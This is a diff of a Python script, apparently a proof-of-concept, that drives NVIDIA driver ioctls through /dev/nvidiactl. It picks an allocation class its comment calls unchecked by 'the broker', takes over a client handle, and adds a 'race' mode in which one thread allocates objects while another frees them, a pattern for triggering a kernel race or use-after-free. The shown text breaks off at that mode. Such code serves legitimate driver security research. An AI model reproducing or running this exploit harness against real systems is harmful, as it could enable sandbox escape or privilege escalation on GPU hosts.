@@ -14,40 +14,26 @@ import json
 import os
 import sys
 
+import rm_escape
 from rm_escape import ABI as abi, escape as call
 
 N = int(sys.argv[1]) if len(sys.argv) > 1 else 12
 CLIENT, DEVICE = 0xC1D00001, 0xC1D000D0
 COPY = 0xC8B5  # HOPPER_DMA_COPY_A: NVB0B5_ALLOCATION_PARAMETERS, nothing the broker checks
-keep = []
 
 
 def alloc(parent: int, new: int, cls: int = COPY, params: str = "NVB0B5_ALLOCATION_PARAMETERS",
           size0: bool = True, **fields) -> list[int]:
-    spec = abi.struct(params)
-    b = ctypes.create_string_buffer(spec.decode(bytes(spec.size)).replace(**fields).encode(),
-                                    spec.size)
-    keep.append(b)
-    # (paramsSize 0, as CUDA sends it: the driver reads the class's own size)
-    err, v = call(ctl, "NV_ESC_RM_ALLOC", "NVOS64_PARAMETERS", hRoot=CLIENT,
-                  hObjectParent=parent, hObjectNew=new, hClass=cls,
-                  pAllocParms=ctypes.addressof(b), paramsSize=0 if size0 else spec.size)
-    return [err, v.status]
+    return rm_escape.alloc(ctl, CLIENT, parent, new, cls, params, size0, **fields)
 
 
 def free(parent: int, old: int) -> list[int]:
-    err, v = call(ctl, "NV_ESC_RM_FREE", "NVOS00_PARAMETERS", hRoot=CLIENT,
-                  hObjectParent=parent, hObjectOld=old)
-    return [err, v.status]
+    return rm_escape.free(ctl, CLIENT, parent, old)
 
 
 ctl = os.open("/dev/nvidiactl", os.O_RDWR)
-out: dict = {"root": call(ctl, "NV_ESC_RM_ALLOC", "NVOS64_PARAMETERS", hRoot=CLIENT,
-                          hObjectParent=CLIENT, hObjectNew=CLIENT, hClass=0x41)[0]}
-b = ctypes.create_string_buffer(4)
-err, v = call(ctl, "NV_ESC_RM_CONTROL", "NVOS54_PARAMETERS", hClient=CLIENT, hObject=CLIENT,
-              cmd=0x1F0, params=ctypes.addressof(b), paramsSize=4)  # (adopts the client)
-out["adopt"] = [err, v.status]
+out: dict = {}
+out["root"], out["adopt"] = rm_escape.own_client(ctl, CLIENT)  # (adopted at its control)
 out["device"] = alloc(CLIENT, DEVICE, 0x80, "NV0080_ALLOC_PARAMETERS", size0=False, deviceId=0)
 if len(sys.argv) > 2 and sys.argv[2] == "race":
     # One thread allocates, another frees each new object the moment the first has its
